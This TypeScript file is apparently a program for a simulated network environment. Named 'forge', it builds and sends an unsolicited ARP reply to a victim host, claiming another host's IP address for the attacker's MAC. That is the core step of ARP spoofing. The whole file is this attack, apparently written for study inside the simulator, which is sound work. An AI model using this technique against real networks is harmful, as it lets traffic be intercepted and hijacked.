/**
 * forge: sends one ARP reply that nobody asked for, through a packet socket, as an attacker would: `forge CARD OWN-MAC CLAIMED-IP VICTIM-IP VICTIM-MAC`.
 */
import { parseIpv4, parseMac } from '@netarium/core/base/address.ts';
import { ByteWriter } from '@netarium/core/base/bytes.ts';
import type { Program } from '@netarium/core/syscall/sys.ts';

const ETHERTYPE_ARP = 0x0806;

export const main: Program = async (sys, argv) => {
  const [card, own, claimed, victim, victimMac] = argv.slice(1);
  const link = (await sys.netlink({ get: 'links' })).find(({ name }) => name === card);
  const ownMac = parseMac(own ?? '');
  const toMac = parseMac(victimMac ?? '');
  const from = parseIpv4(claimed ?? '');
  const to = parseIpv4(victim ?? '');
  if (!link || !ownMac || !toMac || !from || !to) return 2;
  const reply = new ByteWriter(28)
    .u16(1)
    .u16(0x0800)
    .u8(6)
    .u8(4)
    .u16(2)
    .u48(ownMac.key)
    .u32(from.key)
    .u48(toMac.key)
    .u32(to.key)
    .bytes();
  const fd = await sys.socket('packet', 'dgram', ETHERTYPE_ARP);
  await sys.sendto(fd, reply, {
    family: 'packet',
    ifindex: link.ifindex,
    protocol: ETHERTYPE_ARP,
    address: String(toMac),
  });
  await sys.close(fd);
  return 0;
};
